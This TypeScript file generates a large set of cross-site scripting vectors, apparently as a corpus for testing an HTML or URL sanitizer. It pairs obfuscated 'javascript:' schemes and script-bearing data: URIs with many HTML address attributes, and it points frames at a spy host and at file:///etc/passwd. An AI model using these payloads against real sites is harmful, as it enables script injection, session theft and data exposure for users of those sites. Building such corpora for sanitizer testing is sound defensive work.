import { call, spyHost } from './vector-parts.ts';

/** Addresses that run or hold a page, in every writing, at every place where HTML takes an address. */
export function addressVectors(): string[] {
  const scheme = 'javascript:';
  const split = (by: string) => `java${by}script:`;
  const letters = Array.from(scheme, (sign) => `&#${sign.charCodeAt(0)};`).join('');
  const hexLetters = Array.from(scheme, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('');
  const writings = [
    scheme,
    'JaVaScRiPt:',
    ...['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#10;', '&#x0D;', '\u0000', '\u0001', '&#1;', '/**/'].map(
      split,
    ),
    ...[' ', '\t', '\n', '\u0001', '\u0000', '\u00a0', '\u2028', '&#14; ', '&nbsp;', '%20', '\u200b'].map(
      (lead) => `${lead}${scheme}`,
    ),
    'javascript&colon;',
    'javascript&#58;',
    'javascript&#x3A;',
    'javascript\t:',
    'javascript\u0000:',
    '&#106;avascript:',
    '\\x6aavascript:',
    'jav&#x09;ascript:',
    letters,
    hexLetters,
    'vbscript:',
    'livescript:',
    'mocha:',
    'feed:javascript:',
    'view-source:javascript:',
    'jar:javascript:',
  ];
  const pages = [
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
    `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${call}</x:script>`,
    `data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
    `DATA:text/html,${call}`,
    `data:;base64,${Buffer.from('<svg onload=alert(1)>').toString('base64')}`,
  ];
  const places = [
    ['<a href="', '">x</a>'],
    ['<iframe src="', '"></iframe>'],
    ['<form action="', '"><input type=submit></form>'],
    ['<button formaction="', '" form=x>x</button>'],
    ['<input type=image src=x formaction="', '">'],
    ['<object data="', '"></object>'],
    ['<embed src="', '">'],
    ['<img src="', '">'],
    ['<img srcset="', ' 1x">'],
    ['<img longdesc="', '">'],
    ['<img lowsrc="', '">'],
    ['<img dynsrc="', '">'],
    ['<video poster="', '"></video>'],
    ['<body background="', '">'],
    ['<table background="', '"><td background=x>'],
    ['<svg><a xlink:href="', '"><text y=20>x</text></a></svg>'],
    ['<svg><a href="', '"><rect width=99 height=99 /></a></svg>'],
    ['<svg><use href="', '#x"/></svg>'],
    ['<svg><image href="', '"/></svg>'],
    ['<math href="', '">x</math>'],
    ['<math><maction actiontype="statusline" xlink:href="', '">x</maction></math>'],
    ['<link rel=stylesheet href="', '">'],
    ['<base href="', '//">'],
    ['<meta http-equiv=refresh content="0;url=', '">'],
    ['<area href="', '" shape=rect>'],
    ['<blockquote cite="', '">x</blockquote>'],
    ['<q cite="', '">x</q>'],
    ['<applet codebase="', '">'],
    ['<frameset><frame src="', '"></frameset>'],
    ['<layer src="', '"></layer>'],
    ['<bgsound src="', '">'],
    ['<a ping="', '" href=x>x</a>'],
    ['<html manifest="', '">'],
    ['<portal src="', '"></portal>'],
    ['<track src="', '">'],
  ] as const;
  return [
    ...writings.map((writing) => `<a href="${writing}${call}">x</a>`),
    ...writings.map((writing) => `<img src="${writing}${call}">`),
    ...places.flatMap(([before, after]) => [
      `${before}javascript:${call}${after}`,
      `${before}&#x6A;ava\tscript:${call}${after}`,
    ]),
    ...pages.flatMap((page) => [
      `<a href="${page}">x</a>`,
      `<iframe src="${page}"></iframe>`,
      `<object data="${page}"></object>`,
    ]),
    ...[
      `//${spyHost}`,
      `\\\\${spyHost}`,
      `/\\${spyHost}`,
      `https:${spyHost}`,
      'file:///etc/passwd',
      'blob:null/1',
      'about:blank',
    ].map((address) => `<iframe src="${address}"></iframe><a href="${address}">x</a>`),
  ];
}
